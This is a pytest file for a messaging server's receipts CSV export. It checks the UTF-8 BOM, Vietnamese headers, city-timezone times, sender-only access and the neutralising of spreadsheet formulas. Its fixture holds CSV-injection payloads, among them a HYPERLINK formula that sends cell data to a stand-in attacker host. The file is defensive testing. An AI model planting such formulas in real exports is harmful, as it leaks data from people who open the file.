"""receipts.csv for a spreadsheet: UTF-8 with a BOM, Vietnamese headers and states, local
times in the city's zone, and notes that a spreadsheet would run as formulas made inert."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from messaging.receipts_export import city_zone, inert
from server.demo import seed_demo
from tests.conftest import DEMO_PASSWORD, MakeServer
from tests.harness import RunningServer
from tests.messaging.support import directive_body, issue, token

HOSTILE_NOTES = {
    "ward001": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "ward002": "+84 912 345 678",
    "ward003": "-1+1",
    "ward004": "@SUM(1,1)",
    "ward005": "\tcmd",
    "ward006": "Đã triển khai, không có sự cố.",
}


Rows = list[dict[str, str]]


async def csv_rows(server: RunningServer, sender: str, directive_id: int) -> tuple[bytes, Rows]:
    async with server.http(sender) as http:
        response = await http.get(f"/api/v1/directives/{directive_id}/receipts.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    return response.content, list(csv.DictReader(io.StringIO(text)))


async def acknowledge_all(server: RunningServer, directive_id: int) -> None:
    for username, note in HOSTILE_NOTES.items():
        async with server.http(await token(server, username)) as http:
            answer = await http.post(f"/api/v1/directives/{directive_id}/ack", json={"note": note})
            assert answer.status_code == 200, answer.text


def zone_time(iso: str, zone: str) -> str:
    return datetime.fromisoformat(iso).astimezone(ZoneInfo(zone)).strftime("%Y-%m-%d %H:%M:%S")


async def check_city(server: RunningServer, zone: str) -> None:
    await seed_demo(server.ctx, password=DEMO_PASSWORD, communes=6, delegates=9)
    standing = await token(server, "standing")
    units = [u["id"] for u in await _units(server, standing) if u["kind"] in ("commune", "ward")]
    issued = await issue(server, standing, directive_body(units))
    await acknowledge_all(server, issued["id"])
    raw, rows = await csv_rows(server, standing, issued["id"])
    assert raw.startswith(b"\xef\xbb\xbf")
    assert len(rows) == 6
    assert f"Xác nhận lúc (giờ {zone})" in rows[0]
    async with server.http(standing) as http:
        report = (await http.get(f"/api/v1/directives/{issued['id']}/receipts")).json()
    by_user = {u["user_id"]: u for u in report["users"]}
    for row in rows:
        assert row["Trạng thái"] == "Đã xác nhận"
        assert row["Quá hạn"] == "Không"
        assert row["Đơn vị"].startswith(("Phường", "Xã"))
        stored = by_user[int(row["Mã người nhận"])]
        # The same moment as the JSON's UTC time, written in the city's zone.
        assert row[f"Xác nhận lúc (giờ {zone})"] == zone_time(stored["acknowledged_at"], zone)
        note = HOSTILE_NOTES[row["Tên đăng nhập"]]
        expected = note if row["Tên đăng nhập"] == "ward006" else "'" + note
        assert row["Ghi chú xác nhận"] == expected
    # The JSON for programs is unchanged: UTC times and state keys.
    assert {u["state"] for u in report["users"]} == {"acknowledged"}
    assert all(u["acknowledged_at"].endswith(("Z", "+00:00")) for u in report["users"])


async def _units(server: RunningServer, bearer: str) -> list[dict[str, Any]]:
    async with server.http(bearer) as http:
        answer = (await http.get("/api/v1/units")).json()
    return answer if isinstance(answer, list) else answer["units"]


async def test_csv_opens_in_a_spreadsheet_in_local_time(make_server: MakeServer) -> None:
    await check_city(await make_server(), "Asia/Ho_Chi_Minh")


async def test_the_city_zone_is_a_setting(make_server: MakeServer) -> None:
    await check_city(await make_server(city_timezone="Asia/Tokyo"), "Asia/Tokyo")


async def test_only_the_sender_side_gets_the_csv(make_server: MakeServer) -> None:
    server = await make_server()
    await seed_demo(server.ctx, password=DEMO_PASSWORD, communes=2, delegates=2)
    standing = await token(server, "standing")
    units = [u["id"] for u in await _units(server, standing) if u["kind"] in ("commune", "ward")]
    issued = await issue(server, standing, directive_body(units))
    async with server.http(await token(server, "ward001")) as http:
        refused = await http.get(f"/api/v1/directives/{issued['id']}/receipts.csv")
    assert refused.status_code == 403
    assert refused.json()["error"]["code"] == "not_sender"


def test_formula_starts_are_made_inert() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert inert(text) == "'" + text
    for text in ("Phường 001", "", "1-1", "a=b", None):
        assert inert(text) == ("" if text is None else text)


def test_an_unknown_zone_is_refused() -> None:
    assert city_zone("Asia/Ho_Chi_Minh").key == "Asia/Ho_Chi_Minh"
    with pytest.raises(ValueError, match="DIENHONG_CITY_TIMEZONE"):
        city_zone("Mars/Olympus_Mons")
